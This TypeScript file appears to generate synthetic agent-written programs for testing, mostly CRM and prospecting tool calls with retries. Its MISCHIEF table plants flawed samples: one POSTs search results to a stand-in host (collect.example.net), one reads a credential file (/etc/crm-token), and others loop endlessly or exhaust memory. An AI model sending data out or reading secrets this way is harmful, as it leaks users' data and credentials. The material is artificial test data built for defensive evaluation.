import type { Random } from '@buddy/core';
import type { GoHighLevelContact } from '@buddy/mocks';
import { choose } from './choose.ts';

/** What a program is made of: its text, and whether it asks for something that cannot be done. */
export interface Program {
  code: string;
  isBad: boolean;
}

export interface ProgramFacts {
  /** Which program of the whole data it is, from 1. */
  number: number;
  states: readonly string[];
  contacts: readonly GoHighLevelContact[];
}

/** What a model would write for tasks that take more than one call, and now and then something that it should not. */
export function programOf({ number, states, contacts }: ProgramFacts, draw: Random): Program {
  const mischief = MISCHIEF[number];
  if (mischief) return mischief;
  const write = choose(WRITERS, draw);
  return { code: write({ states, contacts, draw }), isBad: false };
}

interface Material {
  states: readonly string[];
  contacts: readonly GoHighLevelContact[];
  draw: Random;
}

/** Providers ask to be left alone now and then; only what does no harm twice is asked for again. */
const PATIENTLY = `
async function patiently(ask) {
  for (let tries = 1; ; tries++) {
    try {
      return await ask();
    } catch (error) {
      if (tries === 4) throw error;
      await new Promise((done) => setTimeout(done, 2_000 * tries));
    }
  }
}
`.trimStart();

const WRITERS: readonly ((material: Material) => string)[] = [
  bestMarket,
  bestMarket,
  missingFromCrm,
  missingFromCrm,
  tagForRenewal,
  renewalQuarter,
  briefSales,
];

/** One search after the other, and the best of them. */
function bestMarket({ states, draw }: Material): string {
  const chosen = someOf(states, 3, draw).map((state) => `'${state}'`);
  const least = 5 + Math.floor(draw() * 20);
  return `import { Counter } from 'collections';

const prospects = new Counter();
for (const state of [${chosen.join(', ')}]) {
  const { found } = await patiently(() => tools.mployer.contacts.search({ state, seniority: 'owner' }));
  prospects.set(state, found);
}
const [[state, found]] = prospects.most_common(1);
console.log(state + ' has the most: ' + found);
({ state, found, isWorthIt: found >= ${least} })

${PATIENTLY}`;
}

/** All at once, and then those who are not there. */
function missingFromCrm({ contacts, draw }: Material): string {
  const known = someOf(contacts, 3, draw).map(({ email = 'ada@example.com' }) => email);
  const emails = [...known, `new-${Math.floor(draw() * 1_000)}@example.com`];
  return `const emails: string[] = ${JSON.stringify(emails)};
const looked = await Promise.all(
  emails.map(async (email) => {
    const { ids } = await patiently(() => tools.gohighlevel.contacts.find({ email }));
    return { email, isKnown: ids.length > 0 };
  }),
);
looked.filter(({ isKnown }) => !isKnown).map(({ email }) => email)

${PATIENTLY}`;
}

/** What one call says decides what the next one does. */
function tagForRenewal({ contacts, draw }: Material): string {
  const [{ email = 'ada@example.com' } = {}] = someOf(contacts, 1, draw);
  return `const { ids } = await patiently(() => tools.gohighlevel.contacts.find({ email: '${email}' }));
let tagged = 0;
for (const contactId of ids) {
  const changes = { tags: ['renewal', 'called-back'] };
  await patiently(() => tools.gohighlevel.contacts.update({ contactId, changes }));
  tagged += 1;
}
({ tagged })

${PATIENTLY}`;
}

/** Mostly arithmetic. */
function renewalQuarter({ draw }: Material): string {
  const month = 1 + Math.floor(draw() * 12);
  const perHead = (20 + Math.floor(draw() * 80)) / 4;
  return `import { date, timedelta } from 'datetime';
import { Decimal } from 'decimal';

const { found } = await patiently(() => tools.msgraph.mail.search({ query: 'renewal' }));
const renewal = new date(2026, ${month}, 1);
const firstCall = renewal.sub(new timedelta({ days: 90 }));
const quote = new Decimal('${perHead}').mul(found);
({ renewal: renewal.isoformat(), firstCall: firstCall.isoformat(), quote: String(quote) })

${PATIENTLY}`;
}

/** Reaches outside: once, whatever comes of it. */
function briefSales({ states, draw }: Material): string {
  const [state = 'CA'] = someOf(states, 1, draw);
  const reference = Math.floor(draw() * 1e6);
  return `const { found } = await patiently(() => tools.mployer.contacts.search({ state: '${state}' }));
await tools.msgraph.mail.send({
  to: 'sales@example.com',
  subject: 'Prospects in ${state} (ref p${reference})',
  text: \`There are \${found} of them.\`,
});
found

${PATIENTLY}`;
}

/** By the number of the program: what a model gets wrong, or is talked into by what it read. */
const MISCHIEF: Readonly<Record<number, Program>> = {
  8: {
    isBad: true,
    code: `const { found } = await tools.mployer.contacts.search({ state: 'TX' });
await fetch('https://collect.example.net/prospects', { method: 'POST', body: String(found) });
found
`,
  },
  17: {
    isBad: true,
    code: `// Deals the leads to the callers until none is left.
const leads = Array.from({ length: 500 }, (_, n) => 'lead-' + n);
const callers = ['ada', 'ben'];
while (leads.length > 0) {
  const lead = leads.shift();
  if (!callers.includes(lead)) leads.push(lead);
}
'all dealt'
`,
  },
  20: {
    // Tries, is told no, and does what it came for all the same.
    isBad: false,
    code: `let token = 'none';
try {
  token = require('node:fs').readFileSync('/etc/crm-token', 'utf8');
} catch (error) {
  console.warn(error.message);
}
const { found } = await patiently(() => tools.msgraph.mail.search({ query: 'invoice' }));
({ found, hasToken: token !== 'none' })

${PATIENTLY}`,
  },
  26: {
    isBad: true,
    code: `// Keeps a copy of every page, to look at them all in the end.
const pages = [];
for (let page = 1; pages.at(-1)?.[0] !== 0; page++) {
  pages.push(new Uint8Array(1_048_576).fill(1 + (page % 255)));
}
pages.length
`,
  },
  35: {
    isBad: true,
    code: `const { found } = await tools.mployer.contacts.search({ state: 'NY' });
({ found, isWorthIt: fuond >= 10 })
`,
  },
};

/** As many as asked for, each once, as far as there are. */
function someOf<Item>(items: readonly Item[], count: number, draw: Random): Item[] {
  const chosen = new Set<Item>();
  while (chosen.size < Math.min(count, items.length)) chosen.add(choose(items, draw));
  return [...chosen];
}
